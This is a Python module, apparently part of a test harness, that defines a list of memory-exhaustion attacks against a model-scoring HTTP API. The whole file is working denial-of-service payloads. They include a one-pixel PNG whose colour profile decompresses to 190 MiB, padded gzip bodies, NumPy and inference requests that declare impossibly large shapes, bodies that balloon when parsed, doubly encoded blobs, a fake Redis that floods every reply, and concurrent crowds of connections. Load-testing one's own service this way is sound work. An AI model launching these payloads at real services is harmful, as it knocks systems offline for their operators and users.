"""Attacks on memory: bodies of every format that become much more than their bytes, alone, together and from a crowd."""

import asyncio
import base64
import gzip
import json
import random
import re
import struct
import zlib

import connections
from attacks import Attack, at_once, head, invoke, png, post

NPY_ROWS = 1 << 40


def tiny_rows():
    return b'{"data":[' + b"[0,0]," * 9_999 + b"[0,0]]}"


def npy(shape, data=b""):
    header = f"{{'descr': '<f4', 'fortran_order': False, 'shape': {shape}, }}".encode()
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data


def profiled_png():
    """A picture of one pixel whose colour profile unpacks to 190 MiB."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    start = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    profile = b"p\0\0" + zlib.compress(bytes(190 << 20), 9)
    pixels = zlib.compress(bytes(4))
    chunks = chunk(b"IHDR", start) + chunk(b"iCCP", profile) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


def many_rows(target, size):
    """Requests of 60 kB with as many rows as there may be."""
    body = tiny_rows()
    at_once(200 * size, lambda _: post(target, "/api/score/identity", body))


def empty_texts(target, size):
    body = b'{"data":[["' + b'","' * (target.body_bytes // 3 - 10) + b'"]]}'
    at_once(8 * size, lambda _: post(target, "/api/score/texts", body))


def binary_texts(target, size):
    """Texts of no bytes in the binary extension, packed: each is four bytes of length."""
    count = target.body_bytes // 4 - 100
    count -= count % 2
    inputs = [{"name": "x", "shape": [count // 2, 2], "datatype": "BYTES", "parameters": {"binary_data_size": 4 * count}}]
    start = json.dumps({"inputs": inputs}).encode()
    body = gzip.compress(start + bytes(4 * count), 9)
    text = head(target, "/api/score/v2/models/texts/infer", "Connection: close",
                f"Inference-Header-Content-Length: {len(start)}", f"Content-Length: {len(body)}")

    def send(_):
        with target.connect(timeout=30) as connection:
            connection.sendall(text + body)
            connection.recv(200)

    at_once(32 * size, send)


def tables(target, size):
    """Cells of nothing, lines of nothing, and characters that JSON writes as six."""
    for body in (b"," * target.body_bytes, b"\n" * target.body_bytes, b"a,b\n" + b"\x01\x01,\x01\n" * (target.body_bytes // 5 - 9)):
        for model in ("identity", "texts", "wide"):
            at_once(2 * size, lambda _, body=body, model=model: post(target, f"/api/score/{model}", body, "text/csv"))


def columns(target, size):
    """A table as one list for each column, which have to be turned into rows."""
    zeros = b"[" + b"0," * (target.body_bytes // 4 - 100) + b"0]"
    body = b'{"data":{"a0":' + zeros + b',"a1":' + zeros + b"}}"
    at_once(4 * size, lambda _: post(target, "/api/score/named", body))


def huge_shapes(target, size):
    for shape in ((NPY_ROWS, 2), (NPY_ROWS, NPY_ROWS), (0, NPY_ROWS), (target.body_bytes // 4, 1)):
        body = npy(shape, bytes(1000))
        at_once(8 * size, lambda _, body=body: post(target, "/api/score/identity", body, "application/x-npy"))
    for shape in ([1 << 62, 2], [0, 1 << 40], [1 << 20, 2]):
        inputs = [{"name": "x", "shape": shape, "datatype": "FP32", "data": []}]
        body = json.dumps({"inputs": inputs}).encode()
        at_once(8 * size, lambda _, body=body: post(target, "/api/score/v2/models/identity/infer", body))


def encoded_pictures(target, size):
    """Small texts that are large pictures, in a list, for a model that takes any size."""
    picture = base64.b64encode(png(2300)).decode()
    body = json.dumps({"data": [picture] * 8}).encode()
    at_once(8 * size, lambda _: post(target, "/api/score/pixels", body))
    body = json.dumps({"instances": [{"b64": picture}] * 8}).encode()
    at_once(8 * size, lambda _: post(target, "/api/score/pixels", body))


def free_pictures(target, size):
    """Pictures that the model takes as they are, as large as they may be."""
    body = png(2300)
    at_once(32 * size, lambda _: post(target, "/api/score/pixels", body, "image/png"))


def many_pictures(target, size):
    body = json.dumps({"data": ["iVBORw0KGgo" + "A" * 5] + [""] * (target.body_bytes // 4)}).encode()
    at_once(4 * size, lambda _: post(target, "/api/score/pixels", body))


def profiles(target, size):
    body = profiled_png()
    at_once(8 * size, lambda _: post(target, "/api/score/pixels", body, "image/png"))


def wrapped_blobs(target, size):
    """A blob in base64 that is base64 of gzip."""
    packed = gzip.compress(b'{"data":[' + b"0," * (target.body_bytes // 2 - 100) + b"0]}", 9)
    inner = base64.b64encode(base64.b64encode(packed)).decode()
    envelope = json.dumps({"Data": {"blob": inner}, "Metadata": {"Uri": '"http://a.example/in/x"'}}).encode()
    at_once(16 * size, lambda _: invoke(target, "score_blob", envelope))


def large_blobs(target, size):
    """Blobs of 32 MiB that are no body of any kind, and come back among what is rejected."""
    text = base64.b64encode(random.Random(1).randbytes(target.body_bytes * 3 // 4)).decode()
    envelope = json.dumps({"Data": {"blob": text}, "Metadata": {"Uri": '"http://a.example/in/x"'}}).encode()
    at_once(8 * size, lambda _: invoke(target, "score_blob", envelope))


def rejected_messages(target, size):
    text = base64.b64encode(random.Random(1).randbytes(target.body_bytes * 3 // 8)).decode()
    envelope = json.dumps({"Data": {"message": json.dumps([text] * 4)}, "Metadata": {}}).encode()
    at_once(4 * size, lambda _: invoke(target, "score_queue", envelope))


def classes(target, size):
    """More classes than there are, of as many rows as there may be."""
    inputs = [{"name": "x", "shape": [9_999, 2], "datatype": "FP32", "data": [0] * (2 * 9_999)}]
    outputs = [{"name": "y", "parameters": {"classification": 1 << 60}}]
    body = json.dumps({"inputs": inputs, "outputs": outputs}).encode()
    at_once(64 * size, lambda _: post(target, "/api/score/v2/models/identity/infer", body))


def keys(target, size):
    """A body of 79 kB that asks for 765 MiB."""
    body = json.dumps({"keys": [str(number) for number in range(10_000)]}).encode()
    at_once(8 * size, lambda _: post(target, "/api/score/keyed", body))


def large_values(connection):
    """A Redis that has 78 kB under every key."""
    text = b""
    while more := connection.recv(1 << 16):
        text += more
        while words := first_command(text):
            text = text[after(text, len(words)):]
            reply(connection, words)


def first_command(text):
    """The words of a command, once it is there."""
    try:
        count = int(text[1:text.index(b"\r\n")])
        if after(text, count) > len(text):
            return None
    except ValueError:
        return None
    return re.findall(rb"\$\d+\r\n([^\r]*)\r\n", text)[:count]


def after(text, count):
    """Where a command of so many words ends."""
    at = text.index(b"\r\n") + 2
    for _ in range(count):
        end = text.index(b"\r\n", at)
        at = end + 2 + int(text[at + 1:end]) + 2
    return at


def reply(connection, words):
    name, value = words[0].upper(), b"$80000\r\n" + bytes(80_000) + b"\r\n"
    if name == b"MGET":
        connection.sendall(b"*%d\r\n" % (len(words) - 1))
        for _ in words[1:]:
            connection.sendall(value)
    elif name == b"GET":
        connection.sendall(b"$-1\r\n")
    elif name == b"HELLO":
        connection.sendall(b"-ERR unknown command 'HELLO'\r\n")
    else:
        connection.sendall(b"+OK\r\n")


def everything():
    """One request of each small kind."""
    json_type, binary = "application/json", "application/octet-stream"
    picture = png(700)
    return [
        ("/api/score/identity", json_type, tiny_rows()),
        ("/api/score/identity", json_type, gzip.compress(tiny_rows() + b" " * (31 << 20))),
        ("/api/score/texts", json_type, b'{"data":[' + b'["",""],' * 9_000 + b'["",""]]}'),
        ("/api/score/identity", "text/csv", b"1,2\n" * 9_000),
        ("/api/score/identity", binary, bytes(200_000)),
        ("/api/score/identity", "application/x-npy", npy((9_000, 2), bytes(72_000))),
        ("/api/score/pixels", "image/png", picture),
        ("/api/score/pixels", json_type, json.dumps({"data": [base64.b64encode(picture).decode()]}).encode()),
        ("/api/score/mnist", json_type, b'{"data":[' + b"[" * 100_000),
        ("/api/score/openapi.json", json_type, b""),
        ("/api/score/none", json_type, b"{}"),
    ]


async def asking(target, requests):
    loop = asyncio.get_running_loop()
    path, kind, body = random.choice(requests)
    text = head(target, path, "Connection: close", f"Content-Length: {len(body)}", kind=kind) + body
    with await connections.connected(target) as connection:
        await loop.sock_sendall(connection, text)
        while await loop.sock_recv(connection, 1 << 18):
            pass


def remembered(target, size):
    """Rows that are remembered, until the cache of the process is full."""
    rows = 10_000
    for number in range(64 * size):
        body = npy((rows, 2), random.Random(number).randbytes(8 * rows))
        post(target, "/api/score/identity", body, "application/x-npy")


def mixed_crowd(target, size):
    """A thousand connections that send all kinds."""
    requests = everything()
    connections.crowd(lambda: asking(target, requests), 500 * size)


ATTACKS = [
    Attack("200 requests of 10,000 rows", many_rows),
    Attack("empty texts", empty_texts),
    Attack("empty texts, binary and packed", binary_texts),
    Attack("tables of nothing", tables, is_long=True),
    Attack("columns instead of rows", columns),
    Attack("shapes that are not there", huge_shapes),
    Attack("pictures in base64", encoded_pictures),
    Attack("pictures of free size", free_pictures),
    Attack("8 million pictures", many_pictures),
    Attack("colour profiles", profiles),
    Attack("blobs wrapped twice", wrapped_blobs),
    Attack("blobs that are rejected", large_blobs),
    Attack("messages that are rejected", rejected_messages),
    Attack("classes without end", classes),
    Attack("features of 765 MiB", keys, redis=large_values),
    Attack("results that are remembered", remembered, is_long=True),
    Attack("a crowd with all kinds", mixed_crowd),
]
